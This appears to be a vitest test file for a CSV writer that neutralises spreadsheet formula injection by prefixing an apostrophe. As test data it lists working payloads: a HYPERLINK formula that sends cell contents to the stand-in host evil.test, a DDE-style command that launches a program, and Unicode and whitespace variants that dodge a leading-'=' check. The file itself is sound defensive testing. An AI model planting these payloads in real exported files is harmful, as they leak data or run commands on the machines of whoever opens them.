import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { type CsvValue, csvCell, textOfCsvCell } from "./csv-cell.js";
import { writeCsv } from "./write-csv.js";

async function written(header: readonly string[], rows: readonly (readonly CsvValue[])[]): Promise<string> {
  async function* batches() {
    yield rows;
  }
  let text = "";
  for await (const piece of writeCsv(header, batches())) text += piece;
  return text;
}

describe("a cell that a spreadsheet could run", () => {
  const dangerous = [
    '=HYPERLINK("http://evil.test?"&A1)',
    "@SUM(1)",
    "\t=1+1",
    "+1",
    "-1+cmd|' /C calc'!A0",
    "\r=1",
    "\n=1",
    "  =1",
    "\uFF1D1+1",
    "\uFF0B1",
    "\uFF0D1",
    "\uFF20SUM(1)",
    "\u200B=1",
    "\uFEFF=1",
    "\u00A0=1",
    "\u202E=1",
    "\ttext",
    "'=1",
    "''=1",
  ];
  test.each(dangerous)("gets an apostrophe: %j", (text) => {
    expect(csvCell(text)).toBe(`'${text}`);
  });

  const harmless = ["", "Spain 5 GB", "a=1", "5-10", "'quoted'", "O'Neil", "´=", "1=1"];
  test.each(harmless)("harmless text stays as it is: %j", (text) => {
    expect(csvCell(text)).toBe(text);
  });

  test("a number stays a number, also a negative one", () => {
    expect(csvCell(-12.5)).toBe("-12.5");
    expect(csvCell(0)).toBe("0");
    expect(csvCell(true)).toBe("true");
    expect(csvCell(null)).toBe("");
  });

  test("a file has a byte-order mark, CRLF and the quotes of RFC 4180", async () => {
    expect(await written(["name", "n"], [['a","=1', -1]])).toBe('\uFEFFname,n\r\n"a"",""=1",-1\r\n');
    expect(await written(["a", "b"], [["1\n2", "1\r2"]])).toBe('\uFEFFa,b\r\n"1\n2","1\r2"\r\n');
  });

  test("64 KiB of the worst text takes no time", () => {
    const text = `${"\u200B".repeat(65_536)}=`;
    const millis = Array.from({ length: 5 }, () => {
      const started = performance.now();
      csvCell(text);
      return performance.now() - started;
    });
    // The best of five: the machine's other work is not the regular expression's fault.
    expect(Math.min(...millis)).toBeLessThan(5);
  });
});

test("what was exported reads back as it was", async () => {
  const text = fc.oneof(
    fc.string({ unit: "binary" }),
    fc
      .array(fc.constantFrom("'", "=", "+", "-", "@", "\t", " ", "\r", "\n", '"', ",", "\u200B", "a"))
      .map((c) => c.join("")),
  );
  await fc.assert(
    fc.asyncProperty(fc.array(text, { minLength: 2, maxLength: 4 }), async (row) => {
      const file = await written(
        row.map((_, index) => `c${index}`),
        [row],
      );
      const [, back] = parse(file, {
        bom: true,
        relax_column_count: true,
        record_delimiter: ["\r\n", "\n", "\r"],
      }) as string[][];
      expect(back?.map(textOfCsvCell)).toEqual(row);
    }),
    { numRuns: 500 },
  );
});
